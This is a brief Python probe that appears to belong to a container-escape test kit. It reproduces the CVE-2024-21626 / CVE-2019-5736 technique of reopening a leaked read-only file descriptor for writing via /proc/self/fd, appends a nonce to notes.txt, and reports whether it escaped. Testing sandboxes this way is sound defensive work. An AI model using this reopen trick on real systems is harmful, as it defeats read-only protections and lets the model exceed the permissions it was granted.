#!/usr/bin/python3
# Goal:    reopen a leaked read-only fd for writing through /proc/self/fd
# Models:  CVE-2024-21626 / CVE-2019-5736 reopen
# Oracle:  modified OUT/notes.txt
# Tier:    core
# Needs:   -
# Fixture: leak-ro
from ctk import *

for fd in range(3, 64):
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode) and os.readlink("/proc/self/fd/%d" % fd).endswith("notes.txt"):
            w = os.open("/proc/self/fd/%d" % fd, os.O_WRONLY | os.O_APPEND)
            os.write(w, NONCE.encode())
            escaped("reopened leaked fd %d" % fd)
    except OSError as e:
        last = e
contained(str(globals().get("last", "no leaked file fd")))
